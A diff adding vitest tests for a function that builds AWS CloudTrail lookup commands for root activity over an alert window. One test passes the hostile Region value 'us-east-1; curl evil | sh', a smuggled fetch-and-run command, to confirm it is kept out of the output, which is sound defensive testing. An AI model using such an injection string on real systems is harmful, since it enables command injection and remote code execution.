@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { lookupCommands } from '../../src/alert/lookup-command.js';
+import { lookupCommands, windowLookupCommands } from '../../src/alert/lookup-command.js';
 import { fillRunbook, runbookValues } from '../../src/alert/runbook.js';
 import { toTrailEvent } from '../../src/intake/trail-event.js';
 import { consoleLoginRecord, HOSTILE } from './alert-fixture.js';
@@ -62,6 +62,43 @@ describe('lookupCommands', () => {
         ).not.toMatch(SHELL_META);
       }
     });
+  });
+});
+
+describe('windowLookupCommands', () => {
+  const start = new Date('2026-03-01T03:14:15Z');
+  const end = new Date('2026-03-01T03:29:15Z');
+
+  it("lists root activity over the window's time range, us-east-1 first, each Region once", () => {
+    const commands = windowLookupCommands(['eu-west-1', 'us-east-1', 'eu-west-1'], start, end);
+    expect(commands.map((c) => c.command.split(' ')[4])).toEqual(['us-east-1', 'eu-west-1']);
+    for (const { command } of commands) {
+      expect(command).toContain(
+        '--lookup-attributes AttributeKey=Username,AttributeValue=root --start-time 2026-03-01T03:14:15Z --end-time 2026-03-01T03:29:15Z ',
+      );
+    }
+  });
+
+  it('names a few Regions and leaves a <region> variant for the rest', () => {
+    const regions = [
+      'eu-west-1',
+      'eu-west-2',
+      'eu-west-3',
+      'eu-north-1',
+      'eu-south-1',
+      'ap-east-1',
+    ];
+    const commands = windowLookupCommands(regions, start, end);
+    expect(commands).toHaveLength(7);
+    expect(commands.at(-1)?.command).toContain('--region <region> ');
+    expect(commands.at(-1)?.purpose).toContain('1 more valid Region(s)');
+  });
+
+  it('never puts a hostile Region into a command', () => {
+    const region = 'us-east-1; curl evil | sh';
+    const commands = windowLookupCommands([region], start, end);
+    expect(commands.map((c) => c.command.split(' ')[4])).toEqual(['us-east-1', '<region>']);
+    for (const { command } of commands) expect(command).not.toContain('curl');
   });
 });
 
